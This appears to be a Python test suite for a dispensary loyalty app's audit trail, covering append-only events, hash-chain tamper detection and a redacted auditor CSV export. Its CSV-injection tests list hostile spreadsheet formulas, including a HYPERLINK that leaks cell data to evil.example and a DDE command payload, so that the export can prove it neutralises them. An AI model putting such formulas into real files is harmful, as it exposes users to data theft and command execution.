"""The audit trail: one event per journal change, in the same transaction; a hash chain that shows
an edited, deleted or moved row; and the CSV auditors get, with no token, phone or PIN."""

from __future__ import annotations

import csv
import io
import itertools
import sqlite3
from contextlib import closing
from dataclasses import asdict
from datetime import UTC, date, datetime, timedelta, timezone

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from budtender_app.domain.actor import Actor
from budtender_app.domain.wallet import Discount
from budtender_app.services.journal import Journal, JournalLock, JournalStateError, JournalWriteError, migrate
from budtender_app.services.journal.audit import (
    GENESIS_HASH,
    UNKEYED,
    Audit,
    row_hash,
)
from budtender_app.services.journal.export import CSV_COLUMNS, spreadsheet_safe, write_rows

CASHIER = Actor("7", "Dana Cashier")

TOKEN = "tok3nSECRETvalue99"
MOUNTAIN = timezone(timedelta(hours=-6), "MDT")
# 2024-05-31 17:00 in Denver (23:00 UTC)
START = datetime(2024, 5, 31, 23, 0, tzinfo=UTC)


class Clock:
    def __init__(self) -> None:
        self.now = START

    def __call__(self) -> datetime:
        self.now += timedelta(seconds=1)
        return self.now


def discount(n: int, points: int = 100, name: str | None = None) -> Discount:
    return Discount(
        id=f"d{n}", name=name or f"Discount {n}", points=points, pos_discount_id=f"POS-{n}",
        redemption_url=f"https://lab.alpineiq.com/api/v1.1/discount/redeem/1234/d{n}/{TOKEN}",
    )


@pytest.fixture
def path(tmp_path):
    return tmp_path / "journal.sqlite3"


@pytest.fixture
def clock():
    return Clock()


@pytest.fixture
def journal(path, clock):
    j = Journal(path, store="Main St", terminal="till-1", clock=clock, lock=JournalLock(path).acquire())
    yield j
    j.close()


def busy_day(journal: Journal, clock: Clock) -> None:
    """A day's worth of events: IDs and names with commas and quotes, every outcome."""
    a, b = journal.queue('T-1,"A"', [discount(1, 100, 'Ten "off", today'), discount(2, 250)],
                         staff=CASHIER, shopper_masked="***-***-4567", contact_id="C-1")
    journal.mark_sending(a.id)
    journal.mark_redeemed(a.id, "R-1")
    journal.mark_sending(b.id)
    journal.mark_unknown(b.id, f"AIQ did not answer for {b.redemption_url}/T-1")
    journal.resolve(b.id, "redeemed", "Seen in AIQ's report", Actor.typed("Dana"))
    clock.now += timedelta(days=1)  # June 1st in Denver
    (c,) = journal.queue("T-2", [discount(3, 50)], staff=CASHIER, shopper_masked="***-***-4567", contact_id="C-1")
    journal.mark_sending(c.id)
    journal.mark_rejected(c.id, "Discount expired")
    journal.record_event("pin_skipped", staff=CASHIER, transaction_id="T-2", detail="store PIN bypass")
    journal.queue_reversal(a.id, staff=CASHIER)
    journal.mark_reversal_sending(a.id)
    journal.mark_reversed(a.id, "Refund of T-1")


def tamper(path, sql: str, *params) -> None:
    """What someone with the file could do: drop the triggers, then change rows."""
    with closing(sqlite3.connect(path)) as db, db:
        db.execute("DROP TRIGGER IF EXISTS audit_no_update")
        db.execute("DROP TRIGGER IF EXISTS audit_no_delete")
        db.execute(sql, params)


def events(journal):
    return [r.event for r in journal.audit.rows()]


# -- one event per change, in the same transaction ------------------------------------------

def test_every_change_writes_its_event(journal, clock):
    busy_day(journal, clock)
    assert events(journal) == [
        "queued", "queued", "sent", "redeemed", "sent", "unknown", "resolved",
        "queued", "sent", "rejected", "pin_skipped", "reversal_queued", "reversal_sent", "reversed",
    ]
    first = journal.audit.rows()[0]
    assert (first.store, first.terminal, first.transaction_id, first.discount_name, first.pos_discount_id,
            first.points) == ("Main St", "till-1", 'T-1,"A"', 'Ten "off", today', "POS-1", 100)


def test_a_refused_change_writes_no_event(journal):
    (entry,) = journal.queue("T-1", [discount(1)], staff=CASHIER, shopper_masked="", contact_id="")
    with pytest.raises(JournalStateError):
        journal.mark_redeemed(entry.id, "R-1")
    assert events(journal) == ["queued"]


def test_a_change_whose_event_cannot_be_written_does_not_happen(journal, monkeypatch):
    (entry,) = journal.queue("T-1", [discount(1)], staff=CASHIER, shopper_masked="", contact_id="")

    def broken(*args, **kwargs):
        raise sqlite3.OperationalError("disk I/O error")

    monkeypatch.setattr(journal.audit, "append", broken)
    with pytest.raises(JournalWriteError, match="disk I/O error"):
        journal.mark_sending(entry.id)
    monkeypatch.undo()
    assert journal.get(entry.id).state == "queued"
    assert events(journal) == ["queued"]


def test_audit_rows_refuse_update_and_delete(journal, path):
    journal.queue("T-1", [discount(1)], staff=CASHIER, shopper_masked="", contact_id="")
    with closing(sqlite3.connect(path)) as db, db:
        with pytest.raises(sqlite3.IntegrityError, match="append-only"):
            db.execute("UPDATE audit SET points = 1")
        with pytest.raises(sqlite3.IntegrityError, match="append-only"):
            db.execute("DELETE FROM audit")


def test_appending_outside_a_transaction_is_refused(journal):
    with pytest.raises(RuntimeError):
        journal.audit.append("queued", at=START, store="s", terminal="t", staff=CASHIER)


# -- the chain ----------------------------------------------------------------------------------

def test_the_chain_verifies_and_starts_at_genesis(journal, clock):
    busy_day(journal, clock)
    report = journal.verify_chain()
    assert report.ok and report.rows == 14
    rows = journal.audit.rows()
    assert rows[0].prev_hash == GENESIS_HASH
    assert all(later.prev_hash == earlier.hash for earlier, later in itertools.pairwise(rows))


def test_an_empty_trail_verifies(journal):
    assert journal.verify_chain().ok


def test_editing_a_rows_points_breaks_the_chain_at_that_row(journal, clock, path):
    busy_day(journal, clock)
    tamper(path, "UPDATE audit SET points = 10 WHERE id = 4")
    report = journal.verify_chain()
    assert (report.ok, report.bad_id, report.problem) == (False, 4, "edited")
    assert "#4" in str(report)


def test_an_edit_with_a_recomputed_hash_shows_at_the_next_row(journal, clock, path):
    busy_day(journal, clock)
    fields = asdict(journal.audit.rows()[3])
    fields["points"] = 10
    tamper(path, "UPDATE audit SET points = 10, hash = ? WHERE id = 4", row_hash(fields, UNKEYED))
    report = journal.verify_chain()
    assert (report.ok, report.bad_id) == (False, 5)


def test_deleting_a_row_breaks_the_chain(journal, clock, path):
    busy_day(journal, clock)
    tamper(path, "DELETE FROM audit WHERE id = 6")
    report = journal.verify_chain()
    assert (report.ok, report.bad_id, report.problem) == (False, 7, "deleted")


def test_moving_a_row_breaks_the_chain(journal, clock, path):
    busy_day(journal, clock)
    tamper(path, "UPDATE audit SET id = 100 WHERE id = 3")
    tamper(path, "UPDATE audit SET id = 3 WHERE id = 4")
    tamper(path, "UPDATE audit SET id = 4 WHERE id = 100")
    report = journal.verify_chain()
    assert (report.ok, report.bad_id) == (False, 3)


def test_a_row_put_back_out_of_order_is_called_reordered(path):
    """Rows 1, 2, 3 re-linked as 1, 3-then-2 by someone who recomputes hashes but not links."""
    with closing(sqlite3.connect(path, isolation_level=None)) as db:
        migrate(db)
        audit = Audit(db)
        db.execute("BEGIN")
        for n in range(3):
            audit.append("queued", at=START + timedelta(seconds=n), store="s", terminal="t", points=n, staff=CASHIER)
        db.execute("COMMIT")
        rows = audit.rows()
        db.execute("DROP TRIGGER audit_no_update")
        # row 3 now claims to follow row 1 (its prev_hash is a hash already seen, not row 2's)
        fields = asdict(rows[2])
        fields["prev_hash"] = rows[0].hash
        db.execute("UPDATE audit SET prev_hash = ?, hash = ? WHERE id = 3", (rows[0].hash, row_hash(fields, UNKEYED)))
        report = audit.verify_chain()
    assert (report.ok, report.bad_id, report.problem) == (False, 3, "reordered")


# -- export -------------------------------------------------------------------------------------

def parse(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames) == CSV_COLUMNS
    return list(reader)


def test_the_csv_round_trips_to_export_rows(journal, clock, tmp_path):
    busy_day(journal, clock)
    target = tmp_path / "audit.csv"
    count = journal.export_csv(target, date(2024, 5, 31), date(2024, 6, 1), tz=MOUNTAIN)
    rows = parse(target.read_text(encoding="utf-8"))
    assert count == len(rows) == 14
    assert rows == journal.export_rows(date(2024, 5, 31), date(2024, 6, 1), tz=MOUNTAIN)
    assert rows[0]["transaction_id"] == 'T-1,"A"' and rows[0]["discount"] == 'Ten "off", today'
    assert rows[0]["time"] == "2024-05-31T17:00:01-06:00"
    assert [r["hash"] for r in rows] == [r.hash for r in journal.audit.rows()]


def test_the_csv_matches_the_journal(journal, clock):
    busy_day(journal, clock)
    out = io.StringIO(newline="")
    journal.export_csv(out, date(2024, 5, 1), tz=MOUNTAIN)
    rows = parse(out.getvalue())
    last_event = {}
    for row in rows:
        if row["discount"]:
            last_event[(row["transaction_id"], row["discount"])] = row
    entries = journal.between(START - timedelta(days=1), START + timedelta(days=3))
    assert len(entries) == 3
    for entry in entries:
        row = last_event[(entry.transaction_id, entry.discount_name)]
        assert (row["pos_discount_id"], int(row["points"]), row["store"]) == (
            entry.pos_discount_id, entry.points, entry.store)
        expected = {"reversed": "reversed", "redeemed": "resolved", "rejected": "rejected"}[entry.state]
        assert row["event"] == expected


def test_the_range_is_whole_local_days(journal, clock):
    busy_day(journal, clock)
    first_day = journal.export_rows(date(2024, 5, 31), date(2024, 5, 31), tz=MOUNTAIN)
    second_day = journal.export_rows(date(2024, 6, 1), tz=MOUNTAIN)
    assert {r["transaction_id"] for r in first_day} == {'T-1,"A"'}
    assert len(first_day) == 7 and len(second_day) == 7
    assert journal.export_rows(date(2024, 6, 2), tz=MOUNTAIN) == []
    with pytest.raises(ValueError):
        journal.export_rows(date(2024, 6, 2), date(2024, 6, 1))


def test_times_carry_their_offset_in_the_computers_zone_by_default(journal, clock):
    busy_day(journal, clock)
    for row in journal.export_rows(date(2024, 5, 1)):
        moment = datetime.fromisoformat(row["time"])
        assert moment.utcoffset() is not None


def test_the_export_has_no_token_link_or_phone(journal, clock, tmp_path, path):
    busy_day(journal, clock)
    target = tmp_path / "audit.csv"
    journal.export_csv(target, date(2024, 5, 1))
    text = target.read_text(encoding="utf-8")
    assert TOKEN not in text
    assert "alpineiq.com" not in text and "http" not in text
    assert "5551234567" not in text and "***-***-4567" not in text
    with closing(sqlite3.connect(path)) as db, db:  # nor anywhere in the audit table itself
        dump = "\n".join(db.iterdump())
    audit_lines = [line for line in dump.splitlines() if 'INSERT INTO "audit"' in line]
    assert audit_lines and not any(TOKEN in line for line in audit_lines)


def test_a_failed_export_leaves_no_half_file(journal, clock, tmp_path, monkeypatch):
    busy_day(journal, clock)
    target = tmp_path / "audit.csv"
    target.write_text("previous export\n")
    import budtender_app.services.journal.export as export_module

    def explode(handle, rows):
        handle.write("time,event\n")
        raise OSError("disk full")

    monkeypatch.setattr(export_module, "_write_csv", explode)
    with pytest.raises(OSError):
        journal.export_csv(target, date(2024, 5, 1))
    assert target.read_text() == "previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir() if "audit.csv" in p.name) == ["audit.csv"]


# -- no formula in the export (OWASP CSV injection) ------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx=1",
            "\r=1+1", "  =1+1", "\n@x", '=1+"2"', "＝1+1", '=cmd|" /C calc"!A0']


def formula_day(journal: Journal) -> None:
    for n, text in enumerate(FORMULAS):
        (entry,) = journal.queue(text, [discount(n, 10, name=text)], staff=CASHIER,
                                 shopper_masked="***-***-4567", contact_id="C-1")
        journal.mark_sending(entry.id)
        journal.mark_rejected(entry.id, text)


def test_no_exported_cell_starts_like_a_formula(journal, clock, tmp_path):
    formula_day(journal)
    target = tmp_path / "audit.csv"
    journal.export_csv(target, date(2024, 5, 1))
    with target.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert len(rows) == 3 * len(FORMULAS)
    starts = set("=+-@\t\r＝")
    for row in rows:
        for cell in row:
            assert cell[:1] not in starts and cell.lstrip()[:1] not in starts, row
    by_discount = {row[5] for row in rows}
    by_transaction = {row[4] for row in rows}
    assert by_discount == by_transaction == {"'" + text for text in FORMULAS}  # the text itself is kept


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.sampled_from('=+-@\t\r\n "\',;ab1'), max_size=12))
def test_any_cell_reads_back_as_written_or_quoted(text):
    out = io.StringIO(newline="")
    write_rows(out, [dict.fromkeys(CSV_COLUMNS, text)])
    [cells] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    assert cells == [spreadsheet_safe(text)] * len(CSV_COLUMNS)
    assert cells[0] in (text, "'" + text)
    assert cells[0].lstrip()[:1] not in set("=+-@\t\r")


def test_a_detail_written_before_the_redactor_is_redacted_in_the_export(journal, path):
    journal.queue("T-9", [discount(9)], staff=CASHIER, shopper_masked="***-***-4567", contact_id="C-1")
    with closing(sqlite3.connect(path)) as db, db:  # what the old code let through into the trail
        db.execute("DROP TRIGGER IF EXISTS audit_no_update")
        db.execute("UPDATE audit SET detail = 'AIQ said: no member 555-123-4567, see https://x.example/t'")
    out = io.StringIO(newline="")
    journal.export_csv(out, date(2024, 5, 1))
    [row] = parse(out.getvalue())
    assert row["detail"] == "AIQ said: no member ***4567, see [link]"


def test_the_exports_fast_path_knows_every_space_lstrip_takes():
    from budtender_app.services.journal.export import _SPACES

    assert {chr(i) for i in range(0x110000) if chr(i).isspace()} == _SPACES


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=6))
def test_the_exports_fast_path_quotes_exactly_what_spreadsheet_safe_quotes(text):
    from budtender_app.services.journal.export import _LOOK_CLOSER

    assert (spreadsheet_safe(text) if text[:1] in _LOOK_CLOSER else text) == spreadsheet_safe(text)
